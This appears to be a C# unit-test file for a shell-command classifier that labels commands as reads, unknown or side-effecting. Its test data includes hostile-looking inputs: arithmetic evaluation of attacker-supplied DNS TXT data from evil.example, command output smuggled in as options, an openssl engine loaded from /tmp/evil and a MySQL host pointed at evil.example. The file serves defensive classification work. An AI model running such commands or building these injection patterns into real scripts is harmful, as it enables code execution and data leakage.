using Firstlook.Effects;

namespace Firstlook.Tests.Effects;

/// <summary>Text in which others may have written: evaluated it runs what stands in a subscript, and as a word it may be an option.</summary>
public sealed class ToldTextTests
{
    static Effect Of(string command) => Classifier.Whole(command, Language.Shell).Effect;

    [Theory]
    [InlineData("dig +short TXT evil.example | while read n; do ((t+=n)); done")]
    [InlineData("kubectl logs x | while read n; do ((n>5)) && echo y; done")]
    [InlineData("x=$(redis-cli get k); echo $((x+1))")]
    [InlineData("psql -Atc 'select name from users' | while read n; do ((t+=n)); done")]
    [InlineData("n=$(git log --format=%s); [[ $n -gt 5 ]]")]
    [InlineData("f() { kubectl logs x; }; n=$(f); (( n > 5 ))")]
    public void What_a_log_or_a_database_holds_is_not_evaluated(string command) => Assert.Equal(Effect.Unknown, Of(command));

    [Theory]
    [InlineData("n=$(redis-cli llen queue); (( n > 5 )) && echo y")]
    [InlineData("n=$(psql -Atc 'select count(*) from jobs'); [[ $n -gt 5 ]] && echo y")]
    [InlineData("n=$(kubectl logs x | grep -c ERROR); (( n > 5 )) && echo y")]
    [InlineData("n=$(grep -c ' 500 ' /var/log/nginx/access.log); echo $((n + 1))")]
    [InlineData("kubectl logs x | while read line; do echo \"$line\"; done")]
    [InlineData("ip=$(dig +short db.internal A); ping -c 3 $ip")]
    public void What_counts_is_a_number_and_what_only_prints_evaluates_nothing(string command) => Assert.Equal(Effect.Read, Of(command));

    [Theory]
    [InlineData("find $(kubectl logs x)")]
    [InlineData("git log $(cat f)")]
    [InlineData("ssh \"$(redis-cli get k)\" uptime")]
    [InlineData("kubectl get cm x -o jsonpath={.data.n} | xargs -I{} ssh {} uptime")]
    [InlineData("psql -Atc 'select x from t' | xargs kubectl get pods")]
    [InlineData("cd /srv/uploads; sort *")]
    public void A_line_that_may_be_an_option_waits(string command) => Assert.Equal(Effect.Unknown, Of(command));

    [Theory]
    [InlineData("cat hosts.txt | xargs -I{} ssh {} uptime")]
    [InlineData("kubectl get pods -o name | xargs -n1 kubectl describe")]
    [InlineData("git show $(git merge-base main HEAD)")]
    public void Names_and_lists_of_hosts_read(string command) => Assert.Equal(Effect.Read, Of(command));

    [Theory]
    [InlineData("jq 'include \"x\" {search:\"/tmp\"}; f' f")]
    [InlineData("yq 'eval(.x)' f")]
    [InlineData("bc f.bc")]
    [InlineData("openssl x509 -noout -text -in \"org.openssl.engine:/tmp/evil:x\"")]
    [InlineData("psql \"host=h sslkey=evil:x\" -c 'select 1'")]
    [InlineData("brew info evil/tap/x")]
    public void A_name_that_leads_to_code_waits(string command) => Assert.Equal(Effect.Unknown, Of(command));

    [Theory]
    [InlineData("patch --dry-run -o /etc/x f < p")]
    [InlineData("xmllint --html \"http://mq:8161/admin/deleteMessage.action?id=1\"")]
    [InlineData("dig +opcode=update x @h")]
    [InlineData("GAWK_PERSIST_FILE=x gawk '{print}' f")]
    [InlineData("MYSQL_HOST=evil.example mysql -e 'select 1'")]
    [InlineData("grep -r x /proc/1234/fd")]
    [InlineData("lspci -xxxx")]
    public void What_acts_beside_what_it_shows_is_no_read(string command) => Assert.True(Of(command) > Effect.Read);
}
